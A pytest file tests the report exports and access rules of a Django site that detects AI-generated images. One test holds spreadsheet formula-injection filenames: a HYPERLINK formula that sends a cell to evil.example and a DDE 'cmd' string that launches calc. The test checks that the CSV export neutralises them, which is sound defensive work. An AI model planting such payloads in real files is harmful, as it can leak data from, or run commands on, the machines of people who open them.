"""Reports: a collection as an HTML page, CSV and JSON, and one image as a printable page, each
showing only what the viewer may see (an art-contest entrant reads "Under review", never "AI")."""

import csv
import io
import json
from pathlib import Path

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from PIL import Image

from aiornot_site.roles import SUBMITTERS
from detector.models import Collection
from detector.scoring import submission_score
from detector.services import submission_create
from tests.images import image_bytes

pytestmark = pytest.mark.django_db(transaction=True)


def scored(user, collection, seed, name="entry.png", size=(96, 80)):
    submission = submission_create(user=user, data=image_bytes("PNG", seed=seed, size=size), original_filename=name,
                                   collection=collection, enqueue=False)
    return submission_score(submission_id=submission.pk)


@pytest.fixture
def everything_likely_ai(settings):
    settings.AIORNOT_LIKELY_HUMAN_THRESHOLD, settings.AIORNOT_LIKELY_AI_THRESHOLD = 0.0, 1e-12
    settings.AIORNOT_ART_CONTEST_MIN_LIKELY_AI = None


@pytest.fixture
def contest(site_admin):
    return Collection.objects.create(name="Spring round", policy="art_contest", second_opinion=False,
                                     created_by=site_admin)


def csv_rows(response) -> list[dict]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_csv_export_is_safe_to_open_in_a_spreadsheet(web, site_admin, django_user_model):
    general = Collection.objects.create(name="Open call", created_by=site_admin)
    mallory = django_user_model.objects.create_user(username="@mallory", password="pw-mallory")
    mallory.groups.add(Group.objects.get(name=SUBMITTERS))
    scored(mallory, general, seed=1, name='=HYPERLINK("evil.example?"&A1,"click").png')
    scored(mallory, general, seed=2, name="-2+3.png")
    scored(mallory, general, seed=3, name="+cmd|' -C calc'!A0.png")
    response = web.login_as(site_admin).get(reverse("collection-report-csv", args=[general.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="collection-{general.pk}-report.csv"'
    rows = csv_rows(response)
    assert [r["filename"] for r in rows] == [
        '\'=HYPERLINK("evil.example?"&A1,"click").png', "'-2+3.png", "'+cmd|' -C calc'!A0.png"]
    assert {r["submitted_by"] for r in rows} == {"'@mallory"}
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())


def test_collection_reports_show_every_entry_to_reviewers_and_withhold_ai_from_entrants(
    web, submitter, other_submitter, reviewer, contest, everything_likely_ai
):
    mine = scored(submitter, contest, seed=10, name="my-painting.png")
    theirs = scored(other_submitter, contest, seed=11, name="their-photo.png")
    assert mine.verdict == theirs.verdict == "likely_ai"

    # The entrant: only their own entry, and "Under review" instead of the machine's opinion.
    client = web.login_as(submitter)
    rows = csv_rows(client.get(reverse("collection-report-csv", args=[contest.pk])))
    assert len(rows) == 1
    row = rows[0]
    assert (row["id"], row["filename"], row["submitted_by"]) == (str(mine.pk), "my-painting.png", "sam")
    assert (row["verdict"], row["p_ai"], row["ai_generated"], row["evidence"]) == ("Under review", "", "", "")
    assert row["review_state"] == "waiting"
    assert row["link"].endswith(reverse("submission-report", args=[mine.pk]))

    body = client.get(reverse("collection-report-json", args=[contest.pk])).json()
    assert body["collection"] == {"id": contest.pk, "name": "Spring round", "policy": "art_contest",
                                  "is_open": True, "deadline": None}
    assert "not a judgement" in body["disclaimer"]
    [entry] = body["entries"]
    assert entry["result_withheld"] is True and entry["verdict_display"] == "Under review"
    assert entry["p_ai"] is None and entry["verdict"] is None and entry["ai_generated"] is None
    assert entry["evidence"] == [] and entry["review"] == {"state": "waiting", "label": "", "decided_at": None, "decisions": []}

    page = client.get(reverse("collection-report", args=[contest.pk])).content.decode()
    assert "my-painting.png" in page and "their-photo.png" not in page
    assert "Under review" in page and "AI-generated: " not in page and "Likely AI-generated</td>" not in page

    # A reviewer: every entry, with score, verdict and one evidence line per finding.
    client = web.login_as(reviewer)
    rows = csv_rows(client.get(reverse("collection-report-csv", args=[contest.pk])))
    assert [r["filename"] for r in rows] == ["my-painting.png", "their-photo.png"]
    assert rows[0]["verdict"] == "Likely AI-generated" and float(rows[0]["p_ai"]) == pytest.approx(mine.p_ai, abs=1e-4)
    assert rows[0]["ai_generated"] == f"AI-generated: {round(mine.p_ai * 100)}%"
    assert rows[0]["evidence"].splitlines()[0].startswith("Learned classifier: The classifier scored the pixels")
    entries = client.get(reverse("collection-report-json", args=[contest.pk])).json()["entries"]
    assert [e["submitted_by"] for e in entries] == ["sam", "olga"]
    assert entries[1]["p_ai"] == pytest.approx(theirs.p_ai) and entries[1]["verdict"] == "likely_ai"
    assert len(entries[1]["evidence"]) == 1 + len(theirs.fusion["findings"])

    page = client.get(reverse("collection-report", args=[contest.pk])).content.decode()
    for s in (mine, theirs):
        assert reverse("submission-thumbnail", args=[s.pk]) in page
        assert reverse("submission-report", args=[s.pk]) in page
        assert f"AI-generated: {round(s.p_ai * 100)}%" in page
    assert "olga" in page and "Likely AI-generated" in page and "The classifier scored the pixels" in page
    assert "Waiting for a reviewer" in page


def test_reports_of_a_collection_one_cannot_see_are_404(web, submitter, other_submitter, site_admin, no_role_user):
    closed = Collection.objects.create(name="Private round", created_by=site_admin)
    scored(submitter, closed, seed=20)
    closed.is_open = False
    closed.save()
    for name in ("collection-report", "collection-report-csv", "collection-report-json"):
        url = reverse(name, args=[closed.pk])
        assert web.login_as(other_submitter).get(url).status_code == 404
        assert web.login_as(no_role_user).get(url).status_code == 404
        assert web.login_as(submitter).get(url).status_code == 200


def test_printable_report_has_image_scores_evidence_heatmap_review_and_disclaimer(web, submitter, site_admin):
    general = Collection.objects.create(name="Open call", created_by=site_admin)
    submission = scored(submitter, general, seed=30, name="harbour.png", size=(160, 120))
    client = web.login_as(submitter)
    response = client.get(reverse("submission-report", args=[submission.pk]))
    assert response.status_code == 200
    page = response.content.decode()
    assert reverse("submission-report-image", args=[submission.pk]) in page
    assert "harbour.png" in page and submission.asset.sha256 in page and "sam" in page
    ai = round(submission.p_ai * 100)
    assert f"AI-generated: {ai}%" in page and f"human-made: {100 - ai}%" in page
    assert submission.get_verdict_display() in page and submission.model_version in page
    assert "The classifier scored the pixels" in page and "Open call" in page
    assert "Not selected for human review" in page or "Waiting for a reviewer" in page
    assert "Nobody should be accused of using AI on the strength of this score alone" in page
    assert reverse("submission-report-heatmap", args=[submission.pk]) in page
    heatmap = client.get(reverse("submission-report-heatmap", args=[submission.pk]))
    assert heatmap.status_code == 200 and heatmap["Content-Type"] == "image/png"
    image = client.get(reverse("submission-report-image", args=[submission.pk]))
    assert b"".join(image.streaming_content) == submission.asset.file.open("rb").read()


def test_printable_report_is_for_the_owner_reviewers_and_admins_only(
    web, submitter, other_submitter, reviewer, site_admin
):
    submission = scored(submitter, None, seed=40)
    urls = [reverse(name, args=[submission.pk]) for name in
            ("submission-report", "submission-report-image", "submission-thumbnail")]
    for url in urls:
        assert web.login_as(other_submitter).get(url).status_code == 404
        for user in (submitter, reviewer, site_admin):
            assert web.login_as(user).get(url).status_code == 200, (url, user)
    assert web.login_as(other_submitter).get(reverse("submission-report", args=[999999])).status_code == 404


def test_printable_report_withholds_ai_from_an_art_contest_entrant(web, submitter, reviewer, contest, everything_likely_ai):
    entry = scored(submitter, contest, seed=50, size=(160, 120))
    client = web.login_as(submitter)
    page = client.get(reverse("submission-report", args=[entry.pk])).content.decode()
    assert "Under review" in page and "AI-generated: " not in page and "Likely AI" not in page
    assert "Evidence" not in page and reverse("submission-report-heatmap", args=[entry.pk]) not in page
    assert client.get(reverse("submission-report-heatmap", args=[entry.pk])).status_code == 404
    assert "not a judgement" in page
    page = web.login_as(reviewer).get(reverse("submission-report", args=[entry.pk])).content.decode()
    assert "Likely AI-generated" in page and "Evidence" in page


def test_thumbnail_is_a_small_jpeg(web, submitter):
    submission = scored(submitter, None, seed=60, size=(640, 480))
    response = web.login_as(submitter).get(reverse("submission-thumbnail", args=[submission.pk]))
    assert response.status_code == 200 and response["Content-Type"] == "image/jpeg"
    thumbnail = Image.open(io.BytesIO(b"".join(response.streaming_content)))
    assert thumbnail.format == "JPEG" and max(thumbnail.size) == 160 and thumbnail.size == (160, 120)


def test_reports_print_on_a4_without_the_site_navigation():
    css = (Path(__file__).resolve().parents[2] / "static" / "css" / "site.css").read_text()
    print_rules = css[css.index("@media print"):]
    assert "size: A4" in print_rules and "header.site" in print_rules and ".no-print" in print_rules


def test_json_export_is_a_download_with_the_collection_and_entries(web, submitter, site_admin):
    general = Collection.objects.create(name="Café photos ☕", created_by=site_admin)
    submission = scored(submitter, general, seed=70, name="café.png")
    response = web.login_as(site_admin).get(reverse("collection-report-json", args=[general.pk]))
    assert response.status_code == 200 and response["Content-Type"] == "application/json"
    assert response["Content-Disposition"] == f'attachment; filename="collection-{general.pk}-report.json"'
    body = json.loads(response.content)
    assert body["collection"]["name"] == "Café photos ☕"
    [entry] = body["entries"]
    assert entry["id"] == submission.pk and entry["filename"] == "café.png" and entry["status"] == "scored"
    assert entry["verdict"] == submission.verdict and entry["result_withheld"] is False
